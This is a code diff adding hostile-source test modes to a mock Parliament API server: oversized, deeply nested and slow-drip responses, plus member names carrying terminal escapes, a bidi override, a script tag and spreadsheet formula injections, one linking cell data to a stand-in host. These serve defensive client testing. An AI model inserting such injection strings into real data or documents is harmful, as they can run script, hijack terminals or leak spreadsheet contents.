@@ -12,6 +12,17 @@ members of the snapshot, in the shape the specs give. Faults are switched on per
     too_many     HTTP 429 with Retry-After (seconds in `value`)
     stall        the normal body after `value` seconds (a client timeout)
 
+and the hostile ones, a source that is broken or malicious rather than unlucky:
+
+    huge         `value` bytes of valid JSON (a short body padded with spaces), with no Content-Length: the
+                 client can only stop it by counting
+    deep         JSON arrays nested `value` levels deep
+    drip         the normal body trickled 64 bytes at a time, `value` seconds apart: each read arrives within
+                 the client's read timeout, so only an overall deadline stops it
+
+`hostile(world, kind)` makes the data itself hostile: wrong JSON types in member records, a truncated member
+list, control characters, or script and formula text in names.
+
 One server answers all three services (their paths do not collide), so one origin serves as all three.
 """
 
@@ -487,6 +498,44 @@ def add_records(world: World, snapshot: Snapshot) -> None:
 
 RECORD_ENDPOINTS = {"Experience": "experience", "Focus": "focus", "RegisteredInterests": "interests"}
 
+HOSTILE_KINDS = ("wrong_types", "truncated_list", "control_characters", "script_and_formula")
+# Names a careless or malicious source might send: terminal escapes, a bell, a bidi override, markup and
+# spreadsheet formulae (OWASP's CSV injection examples).
+CONTROL_NAME = "Diane\x1b[2J\x1b]0;owned\x07 Abbott\u202e"
+SCRIPT_NAMES = {
+    5131: "<script>alert('x')</script> Jack Abbott",
+    4212: '=HYPERLINK("http://example.invalid/?"&A1,"Debbie Abrahams")',
+    4357: "@SUM(1+1) Kirsty Blackman",
+    4359: "+44 Stephen Kinnock",
+}
+
+
+def hostile(world: World, kind: str) -> list[int]:
+    """Make the world's answers hostile of one kind; return the ids of the members it touched."""
+    members = world.members
+    if kind == "wrong_types":
+        members[172]["nameDisplayAs"] = ["Diane", "Abbott"]  # a text field as an array
+        members[5131]["latestParty"] = [{"name": "Labour"}]  # an object as an array
+        members[4212]["id"] = "4212"  # an id as a string
+        return [172, 5131, 4212]
+    if kind == "truncated_list":
+        # The list stops after 550 of 650, as a proxy that cut the answer short would leave it; totalResults
+        # agrees with what is served, so paging alone cannot tell.
+        cut = sorted(members.values(), key=lambda value: (value["nameListAs"], value["id"]))[550:]
+        for value in cut:
+            del members[value["id"]]
+        return [value["id"] for value in cut]
+    if kind == "control_characters":
+        members[172]["nameDisplayAs"] = CONTROL_NAME
+        members[172]["nameFullTitle"] = f"Ms {CONTROL_NAME} MP"
+        return [172]
+    if kind == "script_and_formula":
+        for member_id, name in SCRIPT_NAMES.items():
+            members[member_id]["nameDisplayAs"] = name
+            members[member_id]["nameFullTitle"] = f"{name} MP"
+        return list(SCRIPT_NAMES)
+    raise ValueError(f"no hostile kind {kind!r}: one of {', '.join(HOSTILE_KINDS)}")
+
 
 class _Server(ThreadingHTTPServer):
     # The standard backlog of 5 drops the SYNs of a client opening 24 connections at once, and each dropped
@@ -746,6 +795,13 @@ def _handler(server: ParliamentServer) -> type[BaseHTTPRequestHandler]:
             if fault is not None and fault.kind == "too_many":
                 self._send(429, b'{"status": 429}', "application/json", {"Retry-After": f"{fault.value:g}"})
                 return
+            if fault is not None and fault.kind == "huge":
+                self._send_huge(int(fault.value))
+                return
+            if fault is not None and fault.kind == "deep":
+                depth = int(fault.value)
+                self._send(200, b"[" * depth + b"]" * depth, "application/json")
+                return
             status, value = server.answer(method, split.path, parse_qs(split.query), body)
             payload = json.dumps(value, ensure_ascii=False).encode("utf-8")
             content_type = "application/json; charset=utf-8"
@@ -753,16 +809,49 @@ def _handler(server: ParliamentServer) -> type[BaseHTTPRequestHandler]:
                 content_type = "application/json"
             if fault is not None and fault.kind == "truncated":
                 payload = payload[: len(payload) // 2]
-            self._send(status, payload, content_type)
+            self._send(status, payload, content_type, drip=fault.value if fault and fault.kind == "drip" else 0.0)
 
-        def _send(self, status: int, payload: bytes, content_type: str, headers: dict[str, str] | None = None) -> None:
+        def _send(
+            self,
+            status: int,
+            payload: bytes,
+            content_type: str,
+            headers: dict[str, str] | None = None,
+            *,
+            drip: float = 0.0,
+        ) -> None:
             self.send_response(status)
             self.send_header("Content-Type", content_type)
             self.send_header("Content-Length", str(len(payload)))
             for name, value in (headers or {}).items():
                 self.send_header(name, value)
             self.end_headers()
-            self.wfile.write(payload)
+            if not drip:
+                self.wfile.write(payload)
+                return
+            try:
+                for start in range(0, len(payload), 64):
+                    self.wfile.write(payload[start : start + 64])
+                    self.wfile.flush()
+                    time.sleep(drip)
+            except OSError:
+                self.close_connection = True  # the client gave up: stop trickling
+
+        def _send_huge(self, size: int) -> None:
+            # No Content-Length: the body ends when the connection closes, so only counting bytes can stop it.
+            self.send_response(200)
+            self.send_header("Content-Type", "application/json; charset=utf-8")
+            self.send_header("Connection", "close")
+            self.end_headers()
+            self.close_connection = True
+            head = b'{"items": [], "totalResults": 0}'
+            try:
+                self.wfile.write(head)
+                block = b" " * 65536
+                for _ in range((size - len(head)) // len(block)):
+                    self.wfile.write(block)
+            except OSError:
+                return  # the client stopped reading, as it should
 
         def do_GET(self) -> None:  # noqa: N802 - the base class's name
             self._serve("GET")
